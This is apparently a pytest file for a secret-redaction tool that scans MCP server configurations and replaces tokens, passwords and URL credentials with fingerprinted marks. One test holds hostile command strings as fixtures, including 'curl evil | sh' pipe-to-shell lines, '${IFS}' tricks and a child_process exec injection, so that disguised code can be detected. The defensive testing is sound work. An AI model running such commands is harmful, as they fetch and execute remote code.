"""Credentials leave as kind, place and fingerprint; their text leaves as a mark."""

import time

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from bartizan.discover.credentials import (
    hides_code,
    redact_command,
    redact_mapping,
    redact_url,
    redact_value,
)
from bartizan.model.errors import Place
from bartizan.model.secret import Secret
from bartizan.text.redaction import redact_text

KEY = Secret("k" * 64)
HERE = Place(path="/home/ada/.cursor/mcp.json", pointer="/args")
GITHUB = "ghp_" + "A1b2" * 9
GENERIC = "s3cr3t-Value-91x"
GENERATED = "ZjA3ZWU5YmUt" + "Yzc4OC00NzFk9xKq2"


@pytest.mark.parametrize(
    ("command", "kinds"),
    [
        (["npx", "x", "--token", GENERIC], ["generic"]),
        (["npx", "x", f"--api-key={GENERIC}"], ["generic"]),
        (["docker", "run", "-e", f"GITHUB_TOKEN={GITHUB}", "image"], ["github-token"]),
        (["npx", "mcp-remote", "https://x/mcp", "--header", f"Authorization: Bearer {GENERIC}"], ["generic"]),
        (["server", f"postgresql://app:{GENERIC}@db.example.com:5432/app"], ["url-password"]),
        (["server", f"https://x/mcp?api_key={GENERIC}&page=2"], ["generic"]),
        (["server", GITHUB], ["github-token"]),
        (["curl", "-u", f"ada:{GENERIC}"], ["generic"]),
        (["curl", f"--user=ada:{GENERIC}"], ["generic"]),
        (["server", "-H", f"X-Api-Key: {GENERIC} {GENERIC}"], ["generic"]),
        (["docker", "run", "-u", "node:node", "image"], []),
        (["docker", "run", "--user=1000:1000123", "image"], []),
        (["server", "--token-file", "/run/secrets/token"], []),
        (["server", "--token", "${GITHUB_TOKEN}"], []),
        (["server", "--author", "Ada Lovelace"], []),
        (["server", "--max-tokens", "4096"], []),
        (["server", "--keyboard", "azerty-layout"], []),
    ],
)
def test_a_command_is_shown_with_its_secrets_as_marks(command: list[str], kinds: list[str]):
    shown, found = redact_command(command, HERE, KEY)
    assert [one.kind for one in found] == kinds
    assert GENERIC not in " ".join(shown)
    assert GITHUB not in " ".join(shown)
    if not kinds:
        assert list(shown) == command


def test_a_password_in_a_url_knows_what_it_unlocks():
    found = redact_text(f"postgresql://app:{GENERIC}@DB.example.com:5432/app", HERE, KEY).credentials
    assert [one.backend for one in found] == ["postgresql://db.example.com:5432"]


def test_the_same_secret_has_the_same_fingerprint_wherever_it_stands():
    one = redact_value("API_KEY", GENERIC, HERE, KEY).credentials[0]
    other = redact_url(f"https://x/?token={GENERIC}", HERE, KEY).credentials[0]
    assert one.fingerprint == other.fingerprint
    assert one.asset().id == other.asset().id


def test_another_deployment_gives_another_fingerprint():
    one = redact_value("API_KEY", GENERIC, HERE, KEY).credentials[0]
    other = redact_value("API_KEY", GENERIC, HERE, Secret("other" * 10)).credentials[0]
    assert one.fingerprint != other.fingerprint


def test_names_stay_and_places_point_at_the_value():
    shown, found = redact_mapping({"DB_PASSWORD": GENERIC, "LANG": "C", "a/b_token": GENERIC}, HERE, KEY)
    assert list(shown) == ["DB_PASSWORD", "LANG", "a/b_token"]
    assert shown["LANG"] == "C"
    assert [one.place.pointer for one in found] == ["/args/DB_PASSWORD", "/args/a~1b_token"]


@given(st.text(max_size=40), st.text(max_size=40), st.text(max_size=40))
def test_no_text_makes_redaction_fail_and_a_known_secret_never_survives_it(before: str, name: str, after: str):
    text = f"{before} {GITHUB} {after}"
    shown, _ = redact_command(["server", text, name, text], HERE, KEY)
    assert GITHUB not in " ".join(shown)
    value = redact_value(name, text, HERE, KEY)
    assert GITHUB not in msgspec.json.encode([value.text, [one.asset() for one in value.credentials]]).decode()


@pytest.mark.parametrize(
    "url",
    [
        f"https://{GENERATED}@mcp.example.com/mcp",
        f"https://{GENERATED}:x-oauth-basic@mcp.example.com/mcp",
        f"https://mcp.example.com/api/mcp/s/{GENERATED}/mcp",
        "https://mcp.example.com/s/7c9e6679-7425-40de-944b-e07fc1f90ae7/mcp",
        f"https://mcp.example.com/mcp#access_token={GENERATED}",
        f"postgresql://app:p@{GENERATED}@db.example.com/app",
        f"https://x/?next=https://y/?token={GENERATED}",
    ],
)
def test_a_url_hides_its_secret_wherever_it_stands(url: str):
    redacted = redact_url(url, HERE, KEY)
    assert redacted.credentials
    assert GENERATED not in redacted.text
    assert "7c9e6679" not in redacted.text


@pytest.mark.parametrize(
    "url",
    [
        "ssh://git@github.com/org/repository.git",
        "https://mcp.example.com/v1/mcp-server-2025-06-18/sse",
        "git+https://github.com/org/repository@da39a3ee5e6b4b0d3255bfef95601890afd80709",
        "https://example.com/org/raw/da39a3ee5e6b4b0d3255bfef95601890afd80709/server.py",
        "postgresql://application_user@db.example.com/app",
        "https://mcp.example.com/.well-known/modelcontextprotocol?page=2",
    ],
)
def test_a_url_without_a_secret_stays_as_it_is(url: str):
    assert redact_url(url, HERE, KEY).text == url


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("Cookie", "session=abc123; other=xyz789"),
        ("Cookie", "back=https://example.com/; session=abc123"),
        ("Authorization", 'Digest username="ada", response="6629fae49393a05397450978507c4ef1"'),
        ("DB_PASSWORD", "correct horse battery staple"),
        ("PASSWORD", "tiger"),
        ("API_TOKEN", "abc://defghijk"),
    ],
)
def test_a_value_under_the_name_of_a_credential_never_shows(name: str, value: str):
    shown, found = redact_mapping({name: value}, HERE, KEY)
    assert found
    assert value not in shown[name]
    assert "abc123" not in shown[name]


def test_a_secret_in_place_of_a_name_never_shows():
    shown, found = redact_mapping({GITHUB: "1"}, HERE, KEY)
    assert [one.kind for one in found] == ["github-token"]
    assert GITHUB not in str((list(shown), [one.name for one in found]))


@pytest.mark.parametrize(
    "piece", ["?", "&", "a=", "?a=x://", "://", "a://b:", "/", "@", "-----BEGIN " + "PRIVATE KEY-----"]
)
def test_no_text_of_a_megabyte_stalls_the_reading_of_a_url(piece: str):
    began = time.process_time()
    redact_url("https://x/" + piece * (1_000_000 // len(piece)), HERE, KEY)
    assert time.process_time() - began < 5


@pytest.mark.parametrize(
    "word",
    [
        "TOKEN=abcdef;curl${IFS}evil|sh",
        "echo '-----BEGIN " + "PRIVATE KEY-----\n" + "a" * 20 + "'; curl evil | sh; echo '-----END'",
        "xx://a:$(touch${IFS}evil)@host",
        "API_KEY=require('child_process').exec('evil')",
    ],
)
def test_a_command_that_hides_as_a_secret_is_noticed(word: str):
    shown, found = redact_command(["sh", "-c", word], HERE, KEY)
    assert found
    assert hides_code(word, shown[2])


@pytest.mark.parametrize("word", [GITHUB, f"--token={GENERIC}", f"Authorization: Bearer {GENERIC}", "echo 'a'; b"])
def test_a_plain_secret_in_a_command_is_no_hidden_command(word: str):
    shown, _ = redact_command(["x", word], HERE, KEY)
    assert not hides_code(word, shown[1])


def test_a_lone_surrogate_of_a_configuration_stops_nothing():
    text = redact_text(f"\ud800 {GITHUB}", HERE, KEY).text
    assert GITHUB not in text
    assert text.startswith("\ud800 ‹github-token")


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("Authorization", "Bearer ${EXAMPLE_TOKEN}"),
        ("Authorization", "Bearer {env:EXAMPLE_TOKEN}"),
        ("API_TOKEN", "{env:API_TOKEN}"),
        ("API_TOKEN", "${{ secrets.API_TOKEN }}"),
        ("DATABASE_DSN", "postgresql://ada:${env:DATABASE_PASSWORD}@db.example.com/x"),
    ],
)
def test_a_reference_is_no_credential_wherever_it_stands_in_a_value(name: str, value: str):
    assert redact_value(name, value, Place(), Secret("k")).credentials == ()
